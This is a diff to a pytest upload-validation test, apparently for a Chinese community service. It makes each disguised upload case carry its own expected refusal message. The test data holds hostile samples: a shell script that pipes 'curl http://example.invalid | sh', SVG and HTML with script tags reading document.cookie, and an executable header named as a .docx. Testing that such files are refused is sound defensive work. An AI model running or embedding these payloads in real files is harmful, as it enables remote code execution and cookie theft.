@@ -212,20 +212,22 @@ def test_a_community_gives_the_file_its_district(media, heping_staff, own_commun
 
 
 @pytest.mark.parametrize(
-    ("name", "data"),
+    ("name", "data", "expected"),
     [
-        ("照片.jpg", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
-        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
-        ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
-        ("通知.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
-        ("setup.docx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)),
-        ("archive.docx", b"PK\x03\x04" + bytes(10)),
+        ("照片.jpg", b"#!/bin/sh\ncurl http://example.invalid | sh\n", NOT_ACCEPTED),
+        (
+            "logo.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
+            NOT_ACCEPTED,
+        ),
+        ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NOT_ACCEPTED),
+        ("通知.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", NOT_ACCEPTED),
+        ("setup.docx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200), NOT_ACCEPTED),
+        ("archive.docx", b"PK\x03\x04" + bytes(10), "无法读取该文档"),
     ],
 )
-def test_scripts_pages_and_programs_are_refused_whatever_their_name(media, heping, heping_staff, name, data):
-    message = refused(media, upload(name, data, "image/jpeg"), heping_staff, heping, "")
-    assert NOT_ACCEPTED in message or "无法读取" in message
-    assert "JPEG" in message or "无法读取" in message
+def test_scripts_pages_and_programs_are_refused_whatever_their_name(media, heping, heping_staff, name, data, expected):
+    refused(media, upload(name, data, "image/jpeg"), heping_staff, heping, expected)
 
 
 def test_a_refusal_names_the_accepted_types_in_chinese(media, heping, heping_staff):
